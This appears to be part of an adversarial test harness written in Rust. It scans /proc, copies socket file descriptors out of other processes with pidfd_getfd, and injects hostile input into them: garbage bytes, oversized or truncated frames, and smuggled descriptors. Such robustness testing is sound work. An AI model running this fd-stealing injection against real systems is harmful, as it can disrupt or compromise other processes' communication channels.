fn inject_mode(rest: &[String]) {
    let spec = rest.first().cloned().unwrap_or_default();
    let mut parts = spec.split(',');
    let mode = parts.next().unwrap_or("").to_string();
    let flags: Vec<&str> = parts.collect();
    let late = flags.contains(&"late");
    let spare_first = flags.contains(&"rest");
    let (stop, secs) = attacker_args(rest.get(1..).unwrap_or(&[]), "inject");
    let own = std::process::id();
    let mut seen = std::collections::HashSet::new();
    let mut held: Vec<i32> = Vec::new();
    let mut hits: Vec<Value> = Vec::new();
    let mut getfd_errnos: std::collections::BTreeMap<i32, u64> = Default::default();
    let zero = fs::File::open("/dev/zero").ok();
    let nulls: Vec<fs::File> = (0..250)
        .filter_map(|_| fs::File::open("/dev/null").ok())
        .collect();
    print_flushed(&json!({"ready": true, "mode": spec}));
    until_stopped(&stop, secs, || {
        let Ok(dir) = fs::read_dir("/proc") else {
            return;
        };
        for entry in dir.flatten() {
            let Some(pid) = entry
                .file_name()
                .to_str()
                .and_then(|s| s.parse::<u32>().ok())
            else {
                continue;
            };
            if pid == own || pid == 1 || !seen.insert(pid) {
                continue;
            }
            // SAFETY: pidfd_open takes a pid and flags.
            let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) } as i32;
            if pidfd < 0 {
                *getfd_errnos.entry(last_errno()).or_default() += 1;
                continue;
            }
            let comm = read_text(&format!("/proc/{pid}/comm")).unwrap_or_default();
            if late {
                std::thread::sleep(std::time::Duration::from_millis(1));
            }
            let mut sockets = 0;
            for target in 3..64 {
                // SAFETY: pidfd_getfd takes a pidfd, an fd number and flags.
                let fd = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, target, 0) } as i32;
                if fd < 0 {
                    let errno = last_errno();
                    if errno != libc::EBADF {
                        *getfd_errnos.entry(errno).or_default() += 1;
                    }
                    continue;
                }
                // SAFETY: stat is plain old data; fstat fills it for our fd.
                let mut st: libc::stat = unsafe { std::mem::zeroed() };
                // SAFETY: our own fd and a writable stat.
                let is_socket = unsafe { libc::fstat(fd, &mut st) } == 0
                    && st.st_mode & libc::S_IFMT == libc::S_IFSOCK;
                if is_socket {
                    sockets += 1;
                }
                if !is_socket || (spare_first && sockets == 1) {
                    // SAFETY: our own fd, closed once.
                    unsafe { libc::close(fd) };
                    continue;
                }
                let sent = inject_into(fd, &mode, zero.as_ref(), &nulls);
                hits.push(json!({"pid": pid, "comm": comm.trim(), "fd": target, "sent": sent}));
                held.push(fd);
            }
            // SAFETY: our own fd, closed once.
            unsafe { libc::close(pidfd) };
        }
    });
    for fd in held {
        // SAFETY: our own fds, closed once.
        unsafe { libc::close(fd) };
    }
    print_flushed(&json!({"mode": spec, "hits": hits, "getfd_errnos": getfd_errnos}));
}

/// Writes one attack into a socket duplicated from a runtime process;
/// returns the bytes sent or the errno.
fn inject_into(fd: i32, mode: &str, zero: Option<&fs::File>, nulls: &[fs::File]) -> Value {
    let send = |data: &[u8], fds: &[i32]| -> Value {
        let mut iov = libc::iovec {
            iov_base: data.as_ptr() as *mut libc::c_void,
            iov_len: data.len(),
        };
        let mut control = vec![0u8; 8192];
        // SAFETY: msghdr is plain old data; zeroed is valid.
        let mut msg: libc::msghdr = unsafe { std::mem::zeroed() };
        msg.msg_iov = &mut iov;
        msg.msg_iovlen = 1;
        if !fds.is_empty() {
            let bytes = std::mem::size_of_val(fds) as u32;
            // SAFETY: CMSG_SPACE is arithmetic.
            let space = unsafe { libc::CMSG_SPACE(bytes) } as usize;
            msg.msg_control = control.as_mut_ptr().cast();
            msg.msg_controllen = space;
            // SAFETY: msg_control points at `space` writable bytes, enough
            // for one header and the fds (8192 > CMSG_SPACE(250 * 4)).
            unsafe {
                let cmsg = libc::CMSG_FIRSTHDR(&msg);
                (*cmsg).cmsg_level = libc::SOL_SOCKET;
                (*cmsg).cmsg_type = libc::SCM_RIGHTS;
                (*cmsg).cmsg_len = libc::CMSG_LEN(bytes) as usize;
                std::ptr::copy_nonoverlapping(
                    fds.as_ptr().cast::<u8>(),
                    libc::CMSG_DATA(cmsg),
                    bytes as usize,
                );
            }
        }
        // SAFETY: msg points at live buffers; MSG_DONTWAIT never blocks us
        // on a full socket.
        let n = unsafe { libc::sendmsg(fd, &msg, libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL) };
        if n < 0 {
            json!({"errno": last_errno()})
        } else {
            json!(n)
        }
    };
    match mode {
        "garbage" => send(&[0xffu8; 65536], &[]),
        "oversized" => send(&0x8000_0000u32.to_le_bytes(), &[]),
        "partial" => {
            let mut frame = (16u32 << 20).to_le_bytes().to_vec();
            frame.extend_from_slice(&[b'{'; 100]);
            send(&frame, &[])
        }
        "fd-zero" => match zero {
            Some(z) => send(b"/dev/ptmx", &[z.as_raw_fd()]),
            None => json!({"error": "no /dev/zero"}),
        },
        "many-fds" => {
            let fds: Vec<i32> = nulls.iter().map(|f| f.as_raw_fd()).collect();
            send(b"/dev/ptmx", &fds)
        }
        other => json!({"error": format!("unknown mode {other}")}),
    }
}
